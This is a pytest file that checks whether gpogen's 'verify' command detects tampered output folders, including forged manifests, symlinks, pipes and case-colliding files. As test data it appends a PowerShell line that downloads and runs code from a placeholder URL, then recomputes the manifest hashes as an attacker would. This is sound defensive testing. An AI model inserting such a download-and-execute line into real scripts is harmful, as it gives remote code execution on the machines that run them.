"""No change of what lies in or around an output folder leads ``verify`` past a changed script."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from gpogen.outputs.tree import MANIFEST
from tests.cli.conftest import Run, Workplace

LINE = b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\r\n"
FILES = (
    "powershell/Set-Web.ps1",
    "powershell/Import-WebGpo.ps1",
    "sconfig/Set-UpdateMode.ps1",
    "sconfig/Set-UpdateMode.cmd",
    "README.txt",
    "reg/web.reg",
    "reg/web-undo.reg",
    "lgpo/web.txt",
    "machine/registry.pol",
)


@pytest.fixture
def built(place: Workplace, gpogen: Run) -> Workplace:
    place.profile("web")
    place.profile("db")
    assert gpogen("build").code == 0
    return place


def refresh(folder: Path) -> None:
    """Write the right SHA-256 of every file into the manifest, as an attacker would."""
    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    for path, entry in content["files"].items():
        entry["sha256"] = hashlib.sha256((folder / path).read_bytes()).hexdigest()
    (folder / MANIFEST).write_text(json.dumps(content, indent=1, sort_keys=True) + "\n")


def backdoor(folder: Path, path: str = FILES[0]) -> None:
    data = (folder / path).read_bytes()
    (folder / path).write_bytes(data + LINE)
    refresh(folder)


def manifest_gone(folder: Path) -> None:
    (folder / MANIFEST).unlink()


def manifest_a_pipe(folder: Path) -> None:
    (folder / MANIFEST).unlink()
    os.mkfifo(folder / MANIFEST)


def manifest_a_link(folder: Path) -> None:
    (folder / MANIFEST).rename(folder.parent / "elsewhere.json")
    (folder / MANIFEST).symlink_to("../elsewhere.json")


def manifest_a_folder(folder: Path) -> None:
    (folder / MANIFEST).unlink()
    (folder / MANIFEST).mkdir()


def script_not_listed(folder: Path) -> None:
    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    del content["files"][FILES[0]]
    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")


def artifact_not_listed(folder: Path) -> None:
    """Leave every script out of the manifest, so that no artifact of a script is there."""
    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    for path in [path for path in content["files"] if path.endswith((".ps1", ".cmd"))]:
        del content["files"][path]
    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")


def another_version(folder: Path) -> None:
    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    content["gpogen"] = "9.9.9"
    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")


def another_state(folder: Path) -> None:
    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    content["digest"] = "0" * 64
    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")


def another_profile(folder: Path) -> None:
    content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
    content["profile"] = "db"
    (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")


def nothing_else(folder: Path) -> None:
    del folder


CHANGES = (
    nothing_else,
    manifest_gone,
    manifest_a_pipe,
    manifest_a_link,
    manifest_a_folder,
    script_not_listed,
    artifact_not_listed,
    another_version,
    another_state,
    another_profile,
)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes here")
@pytest.mark.parametrize(
    "arguments",
    [
        ("output/web",),
        ("output/web", "--profile", "profiles/web.yaml"),
        ("output",),
        (".",),
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_a_changed_script_is_found_whatever_is_done_to_the_manifest(
    built: Workplace, gpogen: Run, change: Callable[[Path], None], arguments: tuple[str, ...]
) -> None:
    backdoor(built.output / "web")
    change(built.output / "web")

    answer = gpogen("verify", *arguments)

    assert answer.code in (1, 2)
    assert "output/web" in answer.out + answer.err


@pytest.mark.parametrize("path", FILES)
def test_a_line_more_in_any_file_is_found_though_the_manifest_is_right(
    built: Workplace, gpogen: Run, path: str
) -> None:
    backdoor(built.output / "web", path)

    answer = gpogen("verify", "output/web")

    assert answer.code == 1
    assert f"{path} differs" in answer.out


@pytest.mark.parametrize("arguments", [("output/web",), ("output",), (".",)])
def test_without_the_profile_verify_says_that_scripts_were_not_judged(
    built: Workplace, gpogen: Run, arguments: tuple[str, ...]
) -> None:
    shutil.rmtree(built.root / "profiles")

    answer = gpogen("verify", *arguments)

    assert answer.code == 1
    assert "not compared, including scripts and texts" in answer.out


def test_backups_beside_an_output_folder_are_verified_too(built: Workplace, gpogen: Run) -> None:
    backup = next((built.output / "web/gpo").glob("{*}"))
    copy = built.output / "from-elsewhere" / backup.name
    shutil.copytree(backup, copy)
    (copy / "Backup.xml").write_text("<GroupPolicyBackupScheme/>", encoding="utf-8")

    answer = gpogen("verify", "output")

    assert answer.code != 0
    assert "from-elsewhere" in answer.out + answer.err


def test_the_backup_of_an_output_folder_can_be_verified_alone(
    built: Workplace, gpogen: Run
) -> None:
    (built.output / "web" / MANIFEST).unlink()

    assert gpogen("verify", "output/web/gpo").code == 0


def test_a_folder_is_found_from_above_with_all_that_lies_in_it(
    built: Workplace, gpogen: Run
) -> None:
    answer = gpogen("verify", str(built.root))

    assert answer.code == 0
    assert answer.err == "2 folders checked: no problems\n"
    assert "as the profile produces them" in answer.out


@pytest.mark.parametrize("arguments", [("output",), (".",)])
@pytest.mark.parametrize("manifest", [True, False])
def test_a_link_in_the_place_of_an_output_folder_is_told(
    built: Workplace, gpogen: Run, arguments: tuple[str, ...], manifest: bool
) -> None:
    evil = built.root / ".evil"
    (built.output / "web").rename(evil)
    backdoor(evil)
    if not manifest:
        (evil / MANIFEST).unlink()
    (built.output / "web").symlink_to(evil)

    answer = gpogen("verify", *arguments)

    assert answer.code == 2
    assert "output/web" in answer.err


@pytest.mark.parametrize("how", ["a line more", "a key twice"])
def test_a_manifest_that_gpogen_does_not_write_so_is_told(
    built: Workplace, gpogen: Run, how: str
) -> None:
    path = built.output / "web" / MANIFEST
    text = path.read_text(encoding="utf-8")
    path.write_text(text + "\n" if how == "a line more" else text.replace("{", '{"files": {},', 1))

    found = gpogen("verify", "output/web", "--profile", "profiles/web.yaml")
    assert found.code == 1
    assert f"{MANIFEST} differs" in found.out


def test_files_of_a_backup_that_are_one_file_on_windows_are_told(
    built: Workplace, gpogen: Run
) -> None:
    (own,) = (built.output / "web" / "gpo").glob("*/DomainSysvol/GPO/Machine/registry.pol")
    shutil.copytree(built.output / "web" / "gpo", built.root / "copy")
    twin = built.root / "copy" / own.relative_to(built.output / "web" / "gpo")
    twin.with_name("Registry.POL").write_bytes(twin.read_bytes())

    found = gpogen("verify", "copy")
    assert found.code == 1
    assert "are the same file on Windows" in found.out


def test_an_output_file_does_not_lead_out_by_a_link(built: Workplace, gpogen: Run) -> None:
    outside = built.root.parent / "precious.ics"
    outside.write_text("precious", encoding="utf-8")
    (built.root / "cal.ics").symlink_to(outside)
    (built.root / "rel.yaml").symlink_to(built.root.parent / "new.yaml")
    (built.root / "up").symlink_to(built.root.parent)

    for name in ("cal.ics", "up/precious.ics"):
        found = gpogen("calendar", "--format", "ics", "-o", name)
        assert found.code == 2
        assert f"{name}: a link to" in found.err
    assert outside.read_text(encoding="utf-8") == "precious"
    outside.unlink()
